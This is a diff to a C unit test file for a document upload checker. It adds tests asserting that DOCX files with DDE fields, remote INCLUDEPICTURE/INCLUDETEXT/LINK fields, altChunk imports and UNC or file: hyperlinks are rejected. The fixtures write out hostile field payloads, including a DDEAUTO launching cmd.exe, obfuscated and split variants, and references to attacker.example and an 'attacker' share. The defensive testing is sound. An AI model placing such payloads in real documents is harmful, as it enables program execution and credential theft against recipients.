@@ -26,6 +26,8 @@
 #define E_OLE		"The file contains embedded objects"
 #define E_EXTERNAL	"The file links to content outside the document"
 #define E_UNCHECKED	"The file could not be checked"
+#define E_PROGRAMS	"The file can start other programs"
+#define E_ALTCHUNK	"The file contains content imported from another format"
 
 #define REL_NS	"http://schemas.openxmlformats.org/package/2006/relationships"
 #define REL_T	"http://schemas.openxmlformats.org/officeDocument/2006/" \
@@ -66,6 +68,7 @@ static const char	*check_buf(const unsigned char *, size_t,
 static void		 patch_size(unsigned char *, size_t, const char *,
 			    uint32_t);
 static void		 put32(unsigned char *, uint32_t);
+static const char	*check_docx_part(const char *, const char *);
 static Suite		*zipcheck_suite(void);
 
 static char	 why[256];
@@ -263,6 +266,40 @@ patch_size(unsigned char *b, size_t len, const char *name, uint32_t size)
 	ck_assert_uint_eq(hits, 2);
 }
 
+#define W_NS	"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+#define FLD_BEGIN	"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
+#define FLD_SEP		"<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
+#define FLD_END		"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
+#define INSTR(s)	"<w:r><w:instrText xml:space=\"preserve\">" s \
+			"</w:instrText></w:r>"
+
+/*
+ * A minimal DOCX whose part (word/document.xml, or another story part
+ * such as word/header1.xml) has this paragraph content.
+ */
+static const char *
+check_docx_part(const char *part, const char *para)
+{
+	static char	 xml[8192];
+	int		 n;
+	struct ent	 e[] = {
+		{ "[Content_Types].xml", ct_xml, 0, 0 },
+		{ "word/document.xml", doc_xml, 0, 0 },
+		{ part, xml, 0, 0 },
+	};
+
+	n = snprintf(xml, sizeof(xml), XML_DECL "<w:document xmlns:w=\""
+	    W_NS "\" xmlns:r=\"http://schemas.openxmlformats.org/"
+	    "officeDocument/2006/relationships\"><w:body><w:p>%s</w:p>"
+	    "</w:body></w:document>", para);
+	ck_assert(n > 0 && (size_t)n < sizeof(xml));
+	if (strcmp(part, "word/document.xml") == 0) {
+		e[1].data = xml;
+		return check_zip(e, 2, FT_DOCX);
+	}
+	return check_zip(e, 3, FT_DOCX);
+}
+
 START_TEST(test_clean_fixtures_pass)
 {
 
@@ -420,6 +457,82 @@ START_TEST(test_docx_external_relationships)
 	/* A type pretending to be a hyperlink only at the start. */
 	ck_assert_str_eq(check_docx_rels("<Relationship Id=\"r1\" Type=\""
 	    REL_T "hyperlink/../image\" Target=\"http://x/\" "
+	    "TargetMode=\"External\"/>"), E_EXTERNAL);
+}
+END_TEST
+
+/* Issue 14: DDE fields start programs; they were accepted. */
+START_TEST(test_docx_dde_fields)
+{
+	const char	*doc = "word/document.xml";
+
+	ck_assert_str_eq(check_docx_part(doc, "<w:fldSimple w:instr=\""
+	    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;\">"
+	    "<w:r><w:t>x</w:t></w:r></w:fldSimple>"), E_PROGRAMS);
+	ck_assert_str_eq(check_docx_part(doc, "<w:fldSimple w:instr=\" dde "
+	    "excel x\"/>"), E_PROGRAMS);
+	/* Split across runs, as Word writes it after editing. */
+	ck_assert_str_eq(check_docx_part(doc, FLD_BEGIN INSTR(" DD")
+	    INSTR("EAU") "<w:proofErr w:type=\"spellStart\"/>" INSTR("TO c:\\\\x")
+	    FLD_SEP "<w:r><w:t>x</w:t></w:r>" FLD_END), E_PROGRAMS);
+	/* Spelt with a character reference, or in a deleted run. */
+	ck_assert_str_eq(check_docx_part(doc, FLD_BEGIN INSTR("&#68;DE x")
+	    FLD_END), E_PROGRAMS);
+	ck_assert_str_eq(check_docx_part(doc, FLD_BEGIN "<w:r><w:delInstrText>"
+	    "DDEAUTO x</w:delInstrText></w:r>" FLD_END), E_PROGRAMS);
+	/* Nested inside another field's instruction. */
+	ck_assert_str_eq(check_docx_part(doc, FLD_BEGIN INSTR("IF 1 = 1 \"")
+	    FLD_BEGIN INSTR("DDEAUTO x") FLD_END INSTR("\"") FLD_END),
+	    E_PROGRAMS);
+	/* In a header part. */
+	ck_assert_str_eq(check_docx_part("word/header1.xml", FLD_BEGIN
+	    INSTR("DDE") INSTR("AUTO x") FLD_END), E_PROGRAMS);
+}
+END_TEST
+
+/* Issue 14: fields that fetch content from outside the package. */
+START_TEST(test_docx_include_fields)
+{
+	const char	*doc = "word/document.xml";
+
+	ck_assert_str_eq(check_docx_part(doc, "<w:fldSimple w:instr=\""
+	    "INCLUDEPICTURE &quot;\\\\\\\\attacker\\\\share\\\\a.png&quot; "
+	    "\\d\"/>"), E_EXTERNAL);
+	ck_assert_str_eq(check_docx_part(doc, FLD_BEGIN INSTR("INCLUDE")
+	    INSTR("PICTURE \"http://attacker.example/p.png\"") FLD_SEP FLD_END),
+	    E_EXTERNAL);
+	ck_assert_str_eq(check_docx_part(doc, FLD_BEGIN INSTR(" INCLUDETEXT "
+	    "\"https://x.example/t.docx\"") FLD_END), E_EXTERNAL);
+	ck_assert_str_eq(check_docx_part(doc, FLD_BEGIN INSTR("LINK Excel."
+	    "Sheet.8 \"file:///c:/a.xls\" \"\" \\a") FLD_END), E_EXTERNAL);
+	ck_assert_str_eq(check_docx_part(doc, "<w:fldSimple w:instr=\""
+	    "import &quot;a.wmf&quot;\"/>"), E_EXTERNAL);
+	/* Ordinary fields stay accepted, hyperlinks included. */
+	ck_assert_ptr_null(check_docx_part(doc, "<w:fldSimple w:instr=\" PAGE "
+	    "\\* MERGEFORMAT \"><w:r><w:t>1</w:t></w:r></w:fldSimple>"));
+	ck_assert_ptr_null(check_docx_part(doc, FLD_BEGIN INSTR(" HYPERLINK "
+	    "\"https://www.gov.uk/\" ") FLD_SEP "<w:r><w:t>GOV.UK</w:t></w:r>"
+	    FLD_END));
+	ck_assert_ptr_null(check_docx_part(doc, FLD_BEGIN INSTR(" TOC \\o "
+	    "\"1-3\" ") FLD_SEP "<w:r><w:t>DDEAUTO in the result text</w:t>"
+	    "</w:r>" FLD_END "<w:r><w:t>INCLUDEPICTURE as text</w:t></w:r>"));
+}
+END_TEST
+
+/* Issue 14: w:altChunk imports another document (HTML, MHT, RTF). */
+START_TEST(test_docx_altchunk)
+{
+
+	ck_assert_str_eq(check_docx_part("word/document.xml",
+	    "</w:p><w:altChunk r:id=\"rId9\"/><w:p>"), E_ALTCHUNK);
+	ck_assert_str_eq(check_docx_rels("<Relationship Id=\"rId9\" Type=\""
+	    REL_T "aFChunk\" Target=\"chunk.html\"/>"), E_ALTCHUNK);
+	/* A hyperlink to a UNC path or a file: leaks credentials on a click. */
+	ck_assert_str_eq(check_docx_rels("<Relationship Id=\"r1\" Type=\""
+	    REL_T "hyperlink\" Target=\"\\\\\\\\host\\\\share\" "
+	    "TargetMode=\"External\"/>"), E_EXTERNAL);
+	ck_assert_str_eq(check_docx_rels("<Relationship Id=\"r1\" Type=\""
+	    REL_T "hyperlink\" Target=\"file:///c:/x\" "
 	    "TargetMode=\"External\"/>"), E_EXTERNAL);
 }
 END_TEST
@@ -640,6 +753,9 @@ zipcheck_suite(void)
 	tcase_add_test(tc, test_docx_active_content);
 	tcase_add_test(tc, test_docx_external_relationships);
 	tcase_add_test(tc, test_xml_that_cannot_be_judged);
+	tcase_add_test(tc, test_docx_dde_fields);
+	tcase_add_test(tc, test_docx_include_fields);
+	tcase_add_test(tc, test_docx_altchunk);
 	suite_add_tcase(s, tc);
 
 	tc = tcase_create("odt");
